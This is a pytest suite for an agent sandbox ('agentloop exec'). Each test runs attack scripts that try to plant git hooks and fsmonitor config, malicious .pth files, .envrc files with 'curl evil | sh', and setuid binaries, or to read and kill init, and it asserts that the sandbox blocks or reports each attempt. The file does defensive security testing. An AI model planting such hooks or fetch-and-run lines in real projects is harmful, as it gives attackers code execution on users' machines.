"""``agentloop exec``: the script writes the current directory, and nothing a later agentloop
process, git or the interpreter trusts or runs from there.

Each attack is a script run through the real command line in a project holding ``.git``,
``agentloop.toml``, virtual environments and (root) the places only root's privileges would
reach; it tries to plant or rewrite each, and the test checks the host afterwards.  What it
may write (its own files) it writes, as the user, with the directory's owner and mode left as
they were.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import venv
from pathlib import Path

import pytest

from engine.sandbox import host_support

from .harness import PRELUDE, WAIT, needs_namespaces, probes_in

AGENTLOOP = [sys.executable, "-P", "-m", "engine.cli"]
ROOT = os.geteuid() == 0


def _project(tmp_path: Path) -> Path:
    """A project as a user has one: git, agentloop's configuration, two virtual environments."""
    project = tmp_path / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (project / "agentloop.toml").write_text('python = ".venv/bin/python"\n')
    venv.EnvBuilder(with_pip=False, symlinks=True).create(project / ".venv")
    venv.EnvBuilder(with_pip=False, symlinks=True).create(project / "env2")
    (project / "data.txt").write_text("the user's data\n")
    return project


def _tree(top: Path) -> dict[str, tuple]:
    """What is in ``top``'s protected places: every path with its mode, owner and content."""
    out = {}
    for base in (".git", "agentloop.toml", ".venv", "env2"):
        for path in [top / base, *((top / base).rglob("*") if (top / base).is_dir() else ())]:
            st = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(st.st_mode) else os.readlink(path) if path.is_symlink() else b""
            out[str(path.relative_to(top))] = (st.st_mode, st.st_uid, content)
    return out


def _exec(project: Path, code: str, *args: str) -> tuple[subprocess.CompletedProcess, dict[str, str]]:
    script = project.parent / "attack.py"  # (outside the project: it is shown read-only)
    script.write_text(PRELUDE + code)
    proc = subprocess.run([*AGENTLOOP, "exec", *args, str(script)], capture_output=True, text=True, cwd=project,
                          timeout=WAIT * 4)
    return proc, probes_in(proc.stdout)


PLANTS = r'''
import glob, shutil
site = glob.glob(".venv/lib/python3*/site-packages")[0]
probe("git_hook", lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n"))
probe("git_config", lambda: open(".git/config", "a").write("[core]\n\tfsmonitor = evil\n"))
probe("git_rename", lambda: _os.rename(".git", "git-old"))
probe("git_remove", lambda: shutil.rmtree(".git"))
probe("toml", lambda: open("agentloop.toml", "w").write('python = "/tmp/evil"\n'))
probe("toml_remove", lambda: _os.remove("agentloop.toml"))
probe("toml_rename_over", lambda: (open("new.toml", "w").write("x = 1\n"), _os.rename("new.toml", "agentloop.toml")))
probe("pth", lambda: open(site + "/evil.pth", "w").write("import os; os.system('touch /tmp/pwned')\n"))
probe("venv_python", lambda: (_os.remove(".venv/bin/python"), open(".venv/bin/python", "w")))
probe("venv_cfg", lambda: open(".venv/pyvenv.cfg", "a").write("home = /tmp/evil\n"))
probe("other_venv", lambda: open(glob.glob("env2/lib/python3*/site-packages")[0] + "/evil.pth", "w"))
probe("link_into_git", lambda: (_os.symlink(".git/config", "innocent"), open("innocent", "a").write("evil")))
probe("own_file", lambda: open("result.txt", "w").write("written"))
probe("own_dir", lambda: _os.mkdir("out"))
probe("user_data", lambda: open("data.txt", "a").write("appended\n"))
'''


@pytest.mark.attack
def test_a_script_writes_its_files_but_plants_nothing(tmp_path):
    needs_namespaces()
    project = _project(tmp_path)
    before, mode = _tree(project), project.stat()
    proc, got = _exec(project, PLANTS)
    assert proc.returncode == 0, proc.stderr
    for name in ("git_hook", "git_config", "toml", "pth", "venv_python", "venv_cfg", "other_venv", "link_into_git"):
        assert got[name] == "OSError EROFS", (name, got[name])
    for name in ("git_rename", "toml_remove", "toml_rename_over"):  # a mount point stays where it is
        assert got[name] in ("OSError EBUSY", "OSError EROFS"), (name, got[name])
    assert got["git_remove"].startswith("OSError"), got["git_remove"]
    assert _tree(project) == before
    for name in ("own_file", "own_dir", "user_data"):
        assert got[name].startswith("ok"), (name, got[name])
    assert (project / "result.txt").read_text() == "written"
    assert (project / "result.txt").stat().st_uid == os.geteuid()
    after = project.stat()
    assert (after.st_mode, after.st_uid, after.st_gid) == (mode.st_mode, mode.st_uid, mode.st_gid)


@pytest.mark.attack
def test_what_a_script_creates_where_there_was_none_is_not_obeyed(tmp_path):
    # Nothing can be bound where nothing is: an agentloop.toml or a virtual environment the
    # script makes is refused by the next command, from agentloop's record of what it wrote.
    needs_namespaces()
    project = tmp_path / "project"
    project.mkdir()
    code = r'''
import sys
probe("toml", lambda: open("agentloop.toml", "w").write('python = "planted/bin/python"\n'))
probe("venv", lambda: (_os.makedirs("planted/bin"), open("planted/pyvenv.cfg", "w").write("home = /usr/bin\n"),
                       _os.symlink(sys.executable, "planted/bin/python")))
'''
    proc, got = _exec(project, code)
    assert proc.returncode == 0 and got["toml"].startswith("ok") and got["venv"].startswith("ok"), (got, proc.stderr)
    config = subprocess.run([*AGENTLOOP, "exec", "-"], input="print('obeyed')\n", capture_output=True, text=True,
                            cwd=project, timeout=WAIT * 4)
    assert config.returncode == 125 and "agentloop.toml is not used" in config.stderr, config.stderr
    assert "obeyed" not in config.stdout
    (project / "agentloop.toml").unlink()
    python = subprocess.run([*AGENTLOOP, "exec", "--python", "planted/bin/python", "-"], input="print('ran')\n",
                            capture_output=True, text=True, cwd=project, timeout=WAIT * 4)
    assert python.returncode == 125 and "is not used" in python.stderr, python.stderr
    assert "ran" not in python.stdout


@pytest.mark.attack
def test_the_interpreter_chosen_from_the_project_stays_read_only(tmp_path):
    # --python .venv/bin/python: the interpreter the script runs is in the writable directory;
    # its files, and the next run's imports, are out of the script's reach.
    needs_namespaces()
    project = _project(tmp_path)
    code = ("import glob, sys\nsite = [p for p in sys.path if p.endswith('site-packages')][0]\n"
            "probe('own_site', lambda: open(site + '/evil.pth', 'w').write('import os; print(\"planted\")\\n'))\n"
            "probe('own_python', lambda: open(_os.path.join(_os.path.dirname(sys.executable), 'activate'), 'a'))\n"
            "probe('prefix', sys.prefix.startswith(_os.getcwd()) and (lambda: None) or (lambda: 1 / 0))\n")
    proc, got = _exec(project, code, "--python", str(project / ".venv" / "bin" / "python"))
    assert proc.returncode == 0, proc.stderr
    assert got["prefix"] == "ok", got
    assert got["own_site"] == got["own_python"] == "OSError EROFS", got
    again, _ = _exec(project, "print('next run')\n", "--python", str(project / ".venv" / "bin" / "python"))
    assert again.stdout == "next run\n" and "planted" not in again.stdout


@pytest.mark.attack
def test_a_directory_inside_an_installation_is_not_written(tmp_path):
    # Run from within a Python's import path: refused, in one line.
    needs_namespaces()
    project = _project(tmp_path)
    site = next((project / ".venv").glob("lib/python3*/site-packages"))
    proc = subprocess.run([*AGENTLOOP, "exec", "--python", str(project / ".venv" / "bin" / "python"), "-"],
                          input="print(1)\n", capture_output=True, text=True, cwd=site, timeout=WAIT * 4)
    assert proc.returncode == 125 and "from which Python imports modules" in proc.stderr, proc.stderr


@pytest.mark.attack
@pytest.mark.skipif(not ROOT, reason="only code that keeps uid 0 needs this (as another user the modes stop it)")
def test_root_code_without_capabilities_gains_nothing_from_uid_0(tmp_path):
    # As root the script runs as uid 0 without capabilities: what that uid owns by mode alone
    # (/proc's root-only files, sysctls) is closed, and it makes no set-user-ID file.
    needs_namespaces()
    project = tmp_path / "project"
    project.mkdir()
    code = r'''
import shutil
probe("uid", lambda: _os.getuid())
probe("caps", lambda: [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1])
probe("kpageflags", lambda: open("/proc/kpageflags", "rb").read(8))
probe("slabinfo", lambda: open("/proc/slabinfo").read(10))
probe("sysctl", lambda: open("/proc/sys/kernel/domainname", "w").write("pwned"))
probe("sysctl_read", lambda: open("/proc/sys/kernel/ostype").read().strip())
shutil.copy("/bin/sh", "sh")
probe("chmod_suid", lambda: _os.chmod("sh", 0o4755))
probe("chmod_sgid", lambda: _os.chmod("sh", 0o2755))
probe("create_suid", lambda: _os.close(_os.open("made", _os.O_CREAT | _os.O_WRONLY, 0o4755)))
probe("chmod_plain", lambda: _os.chmod("sh", 0o755))
'''
    proc, got = _exec(project, code)
    assert proc.returncode == 0, proc.stderr
    assert (got["uid"], got["caps"]) == ("ok 0", "ok '0000000000000000'"), got
    assert got["kpageflags"] in ("PermissionError EACCES",), got
    assert got["slabinfo"] == "PermissionError EACCES", got
    assert got["sysctl"] in ("OSError EROFS", "PermissionError EACCES"), got
    assert got["sysctl_read"] == "ok 'Linux'", got
    for name in ("chmod_suid", "chmod_sgid", "create_suid"):
        assert got[name] == "PermissionError EPERM", (name, got[name])
    assert got["chmod_plain"] == "ok"
    assert not [p for p in project.iterdir() if p.stat().st_mode & (stat.S_ISUID | stat.S_ISGID)]


@pytest.mark.attack
def test_the_script_cannot_touch_its_init(tmp_path):
    # The process that reports how the script ended is not the script's to kill, read or trace.
    needs_namespaces()
    project = tmp_path / "project"
    project.mkdir()
    code = r'''
import signal
probe("ppid", lambda: _os.getppid())
probe("kill_init", lambda: _os.kill(1, signal.SIGKILL))
probe("term_init", lambda: _os.kill(1, signal.SIGTERM))
probe("init_fds", lambda: [open(f"/proc/1/fd/{n}") for n in range(3, 8)])
probe("init_mem", lambda: open("/proc/1/mem", "rb"))
probe("init_environ", lambda: open("/proc/1/environ", "rb").read())
print("still here", flush=True)
raise SystemExit(3)
'''
    proc, got = _exec(project, code)
    assert proc.returncode == 3 and "still here" in proc.stdout, (proc.stdout, proc.stderr)
    assert got["ppid"] == "ok 1"
    for name in ("init_fds", "init_mem", "init_environ"):
        assert got[name] == "PermissionError EACCES", (name, got[name])


def test_without_bubblewrap_the_protected_paths_are_said_to_be_unkept(tmp_path):
    # The fallback cannot bind anything read-only: a project holding the interpreter is refused,
    # one holding only .git or agentloop.toml runs (agentloop -v says what is not kept).
    if host_support().landlock_abi < 1:
        pytest.skip("no Landlock here: the fallback itself is unavailable")
    project = _project(tmp_path)
    proc = subprocess.run([*AGENTLOOP, "exec", "--sandbox", "landlock", "--python",
                           str(project / ".venv" / "bin" / "python"), "-"], input="print(1)\n", capture_output=True,
                          text=True, cwd=project, timeout=WAIT * 4)
    assert proc.returncode == 125 and "could not be kept read-only" in proc.stderr, proc.stderr


PLANT_OBEYED = r'''
import os, sys, venv
probe("git", lambda: (os.makedirs(".git/hooks"), open(".git/HEAD", "w").write("ref: refs/heads/main\n"),
                      os.makedirs(".git/objects"), os.makedirs(".git/refs/heads"),
                      open(".git/config", "w").write("[core]\n\tfsmonitor = touch {marker}; false\n")))
probe("envrc", lambda: open(".envrc", "w").write("curl evil | sh\n"))
probe("vscode", lambda: (os.mkdir(".vscode"), open(".vscode/tasks.json", "w").write("{{}}")))
probe("venv", lambda: venv.EnvBuilder(with_pip=False, symlinks=True).create("newenv"))
probe("existing", lambda: open(".python-version", "a").write(""))  # (there before: not named)
print("the script's own stderr", file=sys.stderr)
'''


@pytest.mark.attack
def test_what_a_script_creates_that_tools_obey_is_named_at_exit(tmp_path):
    # Nothing can be bound where nothing is: a .git the script makes is obeyed by the next git
    # run there.  exec names it (and the other files tools obey) in one line when the script ends.
    needs_namespaces()
    project = tmp_path / "project"
    project.mkdir()
    (project / ".python-version").write_text("3.11\n")
    marker = tmp_path / "FSMONITOR-RAN"
    proc, _ = _exec(project, PLANT_OBEYED.format(marker=marker), "--json")
    assert proc.returncode == 0, proc.stderr
    got = probes_in(proc.stderr + proc.stdout)  # (--json: the script's stdout goes to stderr)
    for name in ("git", "envrc", "vscode", "venv", "existing"):
        assert got[name].startswith("ok"), (name, got)  # the plants were made
    notes = [line for line in proc.stderr.splitlines() if line.startswith("agentloop: ")]
    assert len(notes) == 1, proc.stderr
    for name in (".git (git)", ".envrc (direnv)", ".vscode (VS Code)", "newenv/ (a virtual environment)"):
        assert name in notes[0], notes[0]
    assert ".python-version" not in notes[0] and "the script's own stderr" in proc.stderr
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert sorted(report["created"]) == sorted(["newenv/ (a virtual environment)", ".envrc (direnv)", ".git (git)",
                                                ".vscode (VS Code)"]), report
    # Why it is said: git obeys the .git the script made (here its fsmonitor runs on git status).
    if shutil.which("git"):
        subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=project, capture_output=True, timeout=WAIT)
        assert marker.exists(), "git did not run the planted fsmonitor: the plant would be harmless"
    # A second run that makes nothing new names nothing.
    again, _ = _exec(project, "print('quiet')\n")
    assert again.returncode == 0 and not [x for x in again.stderr.splitlines() if x.startswith("agentloop: ")]
